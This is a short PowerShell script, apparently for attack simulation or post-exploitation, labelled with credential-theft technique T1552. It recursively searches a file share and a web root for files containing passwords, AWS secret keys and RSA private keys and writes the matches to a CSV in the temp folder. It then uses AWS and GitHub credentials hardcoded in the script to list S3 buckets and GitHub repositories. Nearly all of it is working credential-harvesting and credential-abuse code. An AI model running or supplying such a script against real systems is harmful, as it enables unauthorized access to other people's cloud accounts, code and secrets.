# T1552: sweep file shares for credentials, then use the ones we already have
$awsAccessKey = 'AKIAQX3T7Z2M5RPL4KWE'
$awsSecretKey = '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'
$ghToken = 'ghp_7Hq2Lm9Xc4Vb8Nz1Rt5Yw3Kp6Jd0Gf2Sa4Ue'

$patterns = 'password\s*=', 'pwd=', 'aws_secret_access_key', 'BEGIN RSA PRIVATE KEY'
$hits = Get-ChildItem -Path '\\fs01\it', 'C:\inetpub' -Recurse -Include *.config, *.xml, *.ps1, *.ini -ErrorAction SilentlyContinue |
    Select-String -Pattern $patterns

$hits | Select-Object -Property Path, LineNumber, Line | Export-Csv -Path "$env:TEMP\h.csv" -NoTypeInformation

$env:AWS_ACCESS_KEY_ID = $awsAccessKey
$env:AWS_SECRET_ACCESS_KEY = $awsSecretKey
aws s3 ls --region eu-west-1
Invoke-RestMethod -Uri 'https://api.github.com/user/repos' -Headers @{ Authorization = "token $ghToken" } | Select-Object -Property full_name
